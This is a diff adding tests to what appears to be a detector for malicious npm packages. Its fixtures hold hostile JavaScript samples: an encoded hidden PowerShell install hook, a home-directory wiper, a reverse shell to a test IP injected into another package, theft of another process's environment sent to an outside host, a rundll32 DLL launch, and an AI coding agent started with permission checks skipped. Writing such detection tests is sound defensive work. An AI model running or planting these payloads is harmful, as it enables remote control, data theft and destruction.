@@ -309,3 +309,48 @@ def test_obfuscated_wallet_drainer():
     assert any(f.rule == "code/wallet-drainer" and f.confidence == 2 for f in found)
     # Obfuscated code alone is suspicious at most.
     assert decide(run({"index.js": f"var {names};\n", "a.js": "x"})).level is not Level.MALICIOUS
+
+
+def test_bundler_call_shape_and_commands_judged_like_hooks():
+    # esbuild/TypeScript output calls imports as `(0, x.spawn)(...)`.
+    code = "var import_cp = require('child_process');\n" \
+           "(0, import_cp.spawn)('powershell', ['-NoP', '-W', 'Hidden', '-Enc', 'JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMA']);\n"
+    found = run({"postinstall.js": code}, {"postinstall": "node postinstall.js"})
+    assert "code/encoded-command" in rules(found)
+    agent = "const cp = require('child_process');\ncp.spawn('claude', ['--dangerously-skip-permissions', '-p', prompt]);\n"
+    assert "code/ai-agent" in rules(run({"index.js": agent}))
+    wipe = "const cp = require('child_process');\ncp.execSync('rm -rf ~/');\n"
+    assert "code/wiper" in rules(run({"i.js": wipe}, {"postinstall": "node i.js"}))
+    # A build tool that runs git and cleans its own output is none of these.
+    tool = "const cp = require('child_process');\nexports.build = () => { cp.execSync('rm -rf dist'); cp.execSync('git status'); };\n"
+    assert decide(run({"index.js": tool})).level is Level.CLEAN
+
+
+def test_code_written_into_another_package_is_judged():
+    setup = ("const fs = require('fs'), path = require('path');\nconst PATCH = `;(function(){var n=require('net'),"
+             "c=require('child_process');var s=new n.Socket();s.connect(4444,'203.0.113.7',function(){"
+             "var sh=process.platform==='win32'?'cmd.exe':'/bin/sh';var p=c.spawn(sh,[]);s.pipe(p.stdin);p.stdout.pipe(s)})})();`;\n"
+             "const f = path.join(__dirname, '..', 'ethers', 'lib', 'index.js');\n"
+             "fs.writeFileSync(f, fs.readFileSync(f, 'utf8') + PATCH);\n")
+    found = run({"setup.js": setup}, {"install": "node setup.js"})
+    assert any(f.rule == "code/reverse-shell" and "writes to disk" in f.message for f in found)
+
+
+def test_other_processes_environment_sent_from_a_function():
+    code = "const fs = require('fs'), https = require('https');\nexports.flush = (pid) => {\n" \
+           "  const env = fs.readFileSync(`/proc/${pid}/environ`, 'latin1');\n" \
+           "  https.request({host: 't.example'}).end(env);\n};\n"
+    assert decide(run({"index.js": code})).level is not Level.CLEAN
+    own = "const fs = require('fs');\nexports.env = () => fs.readFileSync('/proc/self/environ', 'latin1');\n"
+    assert decide(run({"index.js": own})).level is Level.CLEAN
+
+
+def test_dll_started_with_rundll32_and_function_constructor_trick():
+    mz = "MZ" + "\0" * 100
+    js = "const {spawn} = require('child_process'), path = require('path');\n" \
+         "spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main'], {detached: true}).unref();\n"
+    found = run({"install.js": js, "node-gyp.dll": mz}, {"install": "node install.js"})
+    assert any(f.rule == "code/bundled-binary" and f.severity == 4 for f in found)
+    trick = "const zlib = require('zlib');\n(function (c) {\n  const g = zlib.inflateSync(Buffer.from(data, 'base64')).toString();\n" \
+            "  [][c][c]('require', g)(require);\n})('constructor');\n"
+    assert "code/eval-decoded" in rules(run({"index.js": trick}))
